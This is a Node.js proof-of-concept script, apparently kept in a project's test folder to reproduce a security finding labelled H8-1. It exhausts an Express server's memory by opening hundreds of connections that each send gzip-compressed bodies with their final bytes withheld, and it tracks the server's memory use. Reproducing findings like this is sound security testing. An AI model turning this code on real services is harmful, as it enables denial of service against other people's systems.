// PoC (H8-1): the body budget charges the declared (compressed) Content-Length, express.json inflates up to
// the 1 MiB limit. Each request is charged ~1 KB and holds ~1 MiB (+ zlib state) while its last bytes are withheld.
// usage: node test/attack-scripts/gzip-bodies.mjs <port> <pid> [connections=600]
import net from 'node:net'
import fs from 'node:fs'
import zlib from 'node:zlib'
const [port, pid, n = '600'] = process.argv.slice(2)
const base = `http://127.0.0.1:${port}`
const st = () => fs.readFileSync(`/proc/${pid}/status`, 'utf8')
const rss = () => Number(/VmRSS:\s+(\d+)/.exec(st())[1]) / 1024
const hwm = () => Number(/VmHWM:\s+(\d+)/.exec(st())[1]) / 1024
const creds = []
for (let i = 0; i < Math.ceil(Number(n) / 55); i++) {
  const r = await fetch(base + '/agents/register', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ name: `gz${i}` }),
  })
  if (r.status === 201) creds.push((await r.json()).identity.credential)
}
console.log('credentials', creds.length)
const plain = Buffer.alloc(1024 * 1024 - 16, 0x20)
plain[0] = 0x7b
const gz = zlib.gzipSync(plain, { level: 9 })
const send = gz.subarray(0, gz.length - 12)
console.log('compressed', gz.length, 'sending', send.length)
console.log(`before: node RSS ${rss().toFixed(0)} MB (peak ${hwm().toFixed(0)})`)
const socks = []
const answers = {}
for (let i = 0; i < Number(n); i++) {
  const s = net.connect(Number(port), '127.0.0.1')
  s.on('error', () => undefined)
  s.on('data', (d) => {
    const l = d.toString().split('\r\n')[0]
    answers[l] = (answers[l] ?? 0) + 1
  })
  s.write(
    `POST /verify HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: ${process.env.DECL ?? gz.length}\r\n` +
      `Authorization: Bearer ${creds[Math.floor(i / 55)]}\r\n\r\n`,
  )
  s.write(send)
  socks.push(s)
  if (i % 100 === 99) await new Promise((r) => setTimeout(r, 200))
}
for (let t = 2; t <= 28; t += 2) {
  await new Promise((r) => setTimeout(r, 2000))
  console.log(`${t} s: node RSS ${rss().toFixed(0)} MB (peak ${hwm().toFixed(0)})`, answers)
}
for (const s of socks) s.destroy()
await new Promise((r) => setTimeout(r, 2000))
console.log(`after: node RSS ${rss().toFixed(0)} MB (peak ${hwm().toFixed(0)})`)
process.exit(0)
